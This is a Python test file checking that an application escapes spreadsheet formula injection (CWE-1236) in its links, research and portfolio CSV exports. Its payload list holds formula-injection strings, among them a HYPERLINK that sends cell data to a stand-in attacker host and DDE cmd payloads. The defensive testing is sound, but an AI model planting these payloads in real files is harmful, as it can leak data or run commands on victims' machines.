"""CSV formula injection in every CSV the application writes: the respondents' links, the
research export, and a portfolio's table of contents."""

from __future__ import annotations

import csv
import io
import zipfile

from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlmodel import Session

from assess.persistence.repository.questionnaires import get_questionnaire_version
from assess.reporting.portfolio import Entry, portfolio_zip
from tests.adversarial.conftest import Tenant, signed_in
from tests.conftest import make_caller
from tests.research.conftest import add_organisation

# What a spreadsheet may run as a formula when a cell starts with it (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+3",
]


def cells_of(text: str) -> list[str]:
    """Every cell of a CSV text."""
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def runnable_cells(text: str) -> list[str]:
    """The cells of a CSV text that a spreadsheet would run as formulas."""
    return [cell for cell in cells_of(text) if cell.startswith(FORMULA_STARTS)]


def test_the_links_file_shows_formulas_in_labels_and_departments_as_text(
    app: FastAPI, client: TestClient, session: Session, ours: Tenant
) -> None:
    """CWE-1236 Improper neutralization of formula elements in a CSV file: links.csv of
    respondents whose label or department a consultant typed as a formula."""
    invited = client.post(
        f"/api/v1/assessments/{ours.assessment_id}/invitations",
        json={
            "invitations": [{"label": formula, "department": formula[:60]} for formula in FORMULAS]
        },
        headers=ours.consultant.headers,
    )
    assert invited.status_code == 201, invited.text
    links = signed_in(app, session, ours.consultant).get(
        f"/assessments/{ours.assessment_id}/links.csv"
    )
    assert links.status_code == 200
    assert runnable_cells(links.text) == []
    for formula in FORMULAS:
        assert "'" + formula.strip() in cells_of(links.text)  # kept, as text


def test_the_research_export_shows_formulas_in_attributes_as_text(
    client: TestClient, session: Session, published: object
) -> None:
    """CWE-1236 Improper neutralization of formula elements in a CSV file: the research
    export of organisations whose industry, size or country was entered as a formula."""
    version = get_questionnaire_version(session, questionnaire_id="service-check", version=2)
    assert version is not None
    for n, formula in enumerate(FORMULAS):
        organisation = add_organisation(session, version, respondents=3, seed=n, industry=formula)
        organisation.country = formula[:60]
        session.add(organisation)
        session.commit()
    researcher = make_caller(session, "researcher@example.org", admin=True)
    exported = client.get(
        "/api/v1/research/questionnaires/service-check/versions/2/export?format=csv",
        headers=researcher.headers,
    )
    assert exported.status_code == 200, exported.text
    assert runnable_cells(exported.text) == []
    assert "'" + FORMULAS[0] in cells_of(exported.text)


def test_a_portfolios_table_of_contents_shows_formulas_in_names_as_text() -> None:
    """CWE-1236 Improper neutralization of formula elements in a CSV file: contents.csv of
    a portfolio whose organisations, assessments, waves, files and notes read as formulas
    (written by the portfolio job itself; the job's way through the API is tested in
    tests/web/api/test_reports.py, and takes a worker process to start)."""
    entries = [
        Entry(formula, formula, formula, "en", note=formula)
        if n % 2
        else Entry(formula, formula, None, "de").rendered(f"{formula}.pdf", b"%PDF-1.7")
        for n, formula in enumerate(FORMULAS)
    ]
    archive = zipfile.ZipFile(io.BytesIO(portfolio_zip(entries, "en")))
    contents = archive.read("contents.csv").decode()
    assert runnable_cells(contents) == []
    assert cells_of(contents).count("'" + FORMULAS[0]) == 2  # organisation and assessment
    assert cells_of(contents).count("'" + FORMULAS[1]) == 4  # and wave and note
